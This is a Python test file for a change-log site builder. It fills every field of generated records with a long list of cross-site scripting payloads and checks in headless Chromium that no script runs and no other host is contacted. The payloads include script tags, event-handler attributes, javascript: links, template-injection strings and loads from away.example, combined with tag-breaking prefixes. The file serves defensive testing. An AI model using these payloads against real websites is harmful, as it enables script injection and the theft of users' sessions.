"""Texts that would run a script if a page let them, in every key of a record, in a real browser."""

from __future__ import annotations

import functools
import json
import re
import shutil
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from random import Random
from typing import Any

import yaml
from playwright.sync_api import Page, sync_playwright

from trials import Figures, figures, run

#: `(N)` becomes a number, so that it is known which text ran.
_VECTORS = (
    "<script>alert(N)</script>",
    "<SCRIPT SRC=//away.example/N.js></SCRIPT>",
    "<script>alert(N)//",
    "<img src=x onerror=alert(N)>",
    '<img src="x" onerror="alert(N)">',
    "<img/src/onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<svg/onload=alert(N)>",
    "<svg><script>alert(N)</script></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(N)>",
    "<svg><a xlink:href=javascript:alert(N)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(N)>#x>",
    "<math><mtext><script>alert(N)</script>",
    "<math href=javascript:alert(N)>x</math>",
    "<iframe src=javascript:alert(N)>",
    "<iframe srcdoc='<script>parent.alert(N)</script>'>",
    "<object data=javascript:alert(N)>",
    "<embed src=javascript:alert(N)>",
    "<body onload=alert(N)>",
    "<details open ontoggle=alert(N)>x",
    "<input autofocus onfocus=alert(N)>",
    "<select autofocus onfocus=alert(N)>",
    "<textarea autofocus onfocus=alert(N)>",
    "<video><source onerror=alert(N)></video>",
    "<audio src=x onerror=alert(N)>",
    "<marquee onstart=alert(N)>x</marquee>",
    "<p style=animation-name:md-fade onanimationstart=alert(N)>x",
    "<a href=javascript:alert(N)>x</a>",
    "<a href='java&#10;script:alert(N)'>x</a>",
    "<a href=&#106;avascript:alert(N)>x</a>",
    "[x](javascript:alert(N))",
    "[x](<javascript:alert(N)>)",
    "![x](x){ onerror=alert(N) }",
    "[x][n]\n\n[n]: javascript:alert(N)",
    "<javascript:alert(N)>",
    "# x {: onclick=alert(N) }",
    "<form action=javascript:alert(N)><button>x",
    "<button formaction=javascript:alert(N)>x",
    "<base href=//away.example/>",
    "<link rel=stylesheet href=//away.example/N.css>",
    "<style>@import '//away.example/N.css';</style>",
    "<meta http-equiv=refresh content='0;//away.example/'>",
    "<template><script>alert(N)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(N)>'>",
    "<x onmouseover=alert(N) style=position:fixed;inset:0>x</x>",
    "{{ ''.__class__ }}<%= alert(N) %>${alert(N)}",
)
#: What would end the text, the attribute or the element that a text stands in.
_BREAKS = (
    "",
    '">',
    "'>",
    "--></title></style></textarea></script>",
    "]]></p></td></table>",
    "`",
    "\\",
    "&quot;>",
)
PAYLOADS = tuple(f"{opening}{vector}" for vector in _VECTORS for opening in _BREAKS)
_CLIENTS = 4
#: A page says what has run on it, and never stops to ask.
_WATCH = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt"]) {
  window[name] = (what) => { window.ran.push(what) };
}
"""
#: What would run later: at a click, or when a pointer comes by.
_WOULD_RUN = """() => {
  const found = [...window.ran].map(String);
  for (const element of document.querySelectorAll("*")) {
    for (const {name, value} of element.attributes) {
      const address = value.replace(/[\\u0000-\\u0020]/g, "").toLowerCase();
      if (/^on/.test(name) || ["srcdoc", "formaction"].includes(name)) found.push(name);
      const leads = /^(xlink:)?(href|src|action|data)$/.test(name);
      if (leads && /^(javascript|vbscript|data:text)/.test(address)) found.push(`${name}=${value}`);
    }
    const loads = element.matches("base, object, embed, iframe:not([src^='/'])");
    if (loads) found.push(element.localName);
  }
  return found;
}"""


def runs(times: int, random: Random) -> Figures:
    """Open each page of a log whose every text is a payload; say what ran of them."""
    found = figures(
        "a text that would run, in every key and in the body", "run", "asked of another host",
        "not built",
    )  # fmt: skip
    chosen = list(PAYLOADS)
    random.shuffle(chosen)
    chosen = (chosen * (times // len(chosen) + 1))[:times]
    with tempfile.TemporaryDirectory(prefix="changebook-trial-") as folder:
        root = Path(folder) / "workspace"
        keys = _write(root, chosen, random)
        plain = _made_sound(root)
        done = run("build", "--no-pdf", "--workspace", root)
        if done.returncode:
            found.fault("not built", done.stdout[-2000:])
            return found
        found.times = times
        pages = sorted((root / "site").rglob("*.html"))
        with _served(root / "site") as base, _page() as page:
            strangers = _watched(page, base)
            for file in pages:
                address = base + file.relative_to(root / "site").as_posix()
                page.goto(address, wait_until="load")
                if page.locator("pre.mermaid, .mermaid").count():
                    page.wait_for_timeout(1000)
                if ran := page.evaluate(_WOULD_RUN):
                    found.fault("run", f"{address}: {ran[:3]}")
                if strangers:
                    found.fault("asked of another host", f"{address}: {strangers[:3]}")
                    strangers.clear()
    found.seen = (
        f"{keys} keys, {len(pages):,} pages opened with their policy switched off; the bodies of "
        f"{plain} have errors, and show the text as code"
    )
    return found


def _write(root: Path, payloads: list[str], random: Random) -> int:
    """Write a log of a record for each payload; how many keys of a record hold it."""
    assert run("init", root).returncode == 0
    shutil.rmtree(root / "changes" / "example")
    keys = 0
    clients = max(1, min(_CLIENTS, len(payloads) // _CLIENTS**2))
    for client in range(clients):
        folder = root / "changes" / f"client-{client}"
        folder.mkdir()
        prefix = f"RUN{chr(65 + client)}"
        odd = functools.partial(lambda texts: random.choice(texts).replace("(N)", "(8)"), payloads)
        profile = _profile(prefix, odd())
        (folder / "client.md").write_text(_file(profile, "Welcome.\n\n" + odd()), "utf-8")
        for number in range(client, len(payloads), clients):
            text = payloads[number].replace("(N)", f"({1000 + number})")
            record = _record(f"{prefix}-{number:04d}", number, text)
            keys = len(list(_leaves(record, text)))
            file = folder / f"{prefix}-{number:04d}-x.md"
            file.write_text(_file(record, _body(text, number)), "utf-8")
    return keys


def _leaves(value: Any, text: str) -> Iterator[str]:
    if isinstance(value, dict):
        for child in value.values():
            yield from _leaves(child, text)
    elif isinstance(value, list):
        for child in value:
            yield from _leaves(child, text)
    elif isinstance(value, str) and text in value:
        yield value


def _file(front: dict[str, Any], body: str) -> str:
    said = yaml.safe_dump(front, allow_unicode=True, sort_keys=False, width=100_000)
    return f"---\n{said}---\n\n{body}\n"


def _body(text: str, number: int) -> str:
    """Return a body with the text where Markdown reads it in another way each time."""
    parts = [
        text,
        f"## {text}",
        f"- {text}",
        f"> {text}",
        f"| a |\n|---|\n| {text} |",
        f"[{text}](https://a.example)",
        f"[a](<https://a.example/{text}>)",
        f'[a](https://a.example "{text}")',
        f"`{text}`",
        f"```{text}\na\n```",
        f'!!! note "{text}"\n\n    {text}',
        f"*{text}*[^1]\n\n[^1]: {text}",
        f"<p title='{text}'>a</p>",
    ]
    if number % 10 == 0:
        parts.append(f'```mermaid\nflowchart TD\n  a["{text.replace(chr(34), "")}"] --> b\n```')
    return "\n\n".join(parts)


def _made_sound(root: Path) -> int:
    """Give records whose bodies have errors one in which the text is code; how many these are."""
    done = run("check", "--format", "json", "--workspace", root)
    wrong = {p["path"] for p in json.loads(done.stdout) if p["severity"] == "error"}
    for path in wrong:
        file = root / path
        front, rule, body = file.read_text("utf-8").partition("\n---\n\n")
        first = body.replace("Welcome.\n\n", "").split("\n\n## ")[0]
        code = "\n".join(f"    {line}" for line in re.split("\n", first))
        file.write_text(f"{front}{rule}Words.\n\n{code}\n", "utf-8")
    return len(wrong)


def _profile(prefix: str, text: str) -> dict[str, Any]:
    return {
        "name": f"Client {prefix} {text}",
        "language": "en",
        "timezone": "Europe/Paris",
        "prefix": prefix,
        "project": text,
        "vendor": {"name": text, "contact": "change@northwind.example"},
        "contract": {
            "reference": text,
            "signed": "2026-01-05",
            "currency": "EUR",
            "sum": "100000.00",
            "milestones": [
                {"id": "go-live", "name": text, "date": "2026-09-01", "completion": True}
            ],
        },
        "people": [
            {"name": "Ada Moreau", "role": text, "party": "client", "approves": True},
            {"name": text, "role": text, "party": "vendor"},
        ],
        "request": {"guidance": text, "questions": [text]},
    }


def _record(id_: str, number: int, text: str) -> dict[str, Any]:
    """Return a record with the text in every key that takes one."""
    steps = ("submitted", "assessing", "awaiting-decision", "approved")[: number % 4 + 1]
    record: dict[str, Any] = {
        "id": id_,
        "title": text,
        "status": steps[-1],
        "visibility": "client",
        "type": "addition",
        "priority": "high",
        "requested": {"on": "2026-02-01", "by": text, "party": "client"},
        "summary": text,
        "scope": [
            {"item": text, "action": "modify", "before": text, "after": text, "example": text}
        ],
        "out_of_scope": [text],
        "glossary": {text: text},
        "reason": {
            "category": "market",
            "text": text,
            "evidence": [{"claim": text, "source": text, "date": "2026-01-20"}],
        },
        "impact": {
            "confidence": "estimate",
            "assessed": {"on": "2026-02-09", "by": text},
            "cost": [{"item": text, "amount": "500.00"}],
            "schedule": [],
            "resources": [{"role": text, "days": "2"}],
            "quality": text,
            "risks": [{"risk": text, "likelihood": "low", "severity": "high", "response": text}],
        },
        "options": [
            {"id": "a", "title": text, "pros": [text], "cons": [text], "amount": "500.00"},
            {"id": "b", "title": text, "pros": [text], "cons": [text], "amount": "0"},
        ],
        "plan": [{"step": text, "owner": text, "start": "2026-03-01", "finish": "2026-03-02"}],
        "objections": [
            {
                "by": text,
                "party": "client",
                "on": "2026-02-12",
                "concern": text,
                "response": text,
                "alternative": text,
                "outcome": "compromise",
                "resolved": "2026-02-13",
            }
        ],
        "communications": [
            {"on": "2026-02-11", "channel": "call", "with": [text], "summary": text}
        ],
        "history": [
            {"status": step, "on": f"2026-02-{10 + day:02d}", "by": text, "note": text}
            for day, step in enumerate(steps)
        ],
    }
    if "awaiting-decision" in steps:
        record["decision"] = {"due": "2026-02-20"}
    if "approved" in steps:
        record["decision"] |= {
            "outcome": "approved",
            "on": "2026-02-13",
            "by": [{"name": "Ada Moreau", "party": "client"}],
            "option": "a",
            "amount": "500.00",
            "rationale": text,
            "conditions": [{"text": text}],
        }
        record["agreement"] = {"status": "drafting", "reference": text}
    return record


@contextmanager
def _served(root: Path) -> Iterator[str]:
    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *message: object) -> None:
            pass

    handler = functools.partial(Quiet, directory=str(root))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


@contextmanager
def _page() -> Iterator[Page]:
    """A page of Chromium in which no policy would stop a script."""
    path = shutil.which("chromium-headless-shell") or shutil.which("chromium")
    assert path, "Chromium is missing"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        page = browser.new_context(bypass_csp=True).new_page()
        page.add_init_script(_WATCH)
        yield page
        browser.close()


def _watched(page: Page, base: str) -> list[str]:
    """Return the addresses on other hosts that pages ask for, as they come; none is asked."""
    strangers: list[str] = []

    def handle(route: Any) -> None:
        address = route.request.url
        if address.startswith((base, "data:", "blob:")):
            route.continue_()
        else:
            strangers.append(address)
            route.abort()

    page.route("**/*", handle)
    return strangers
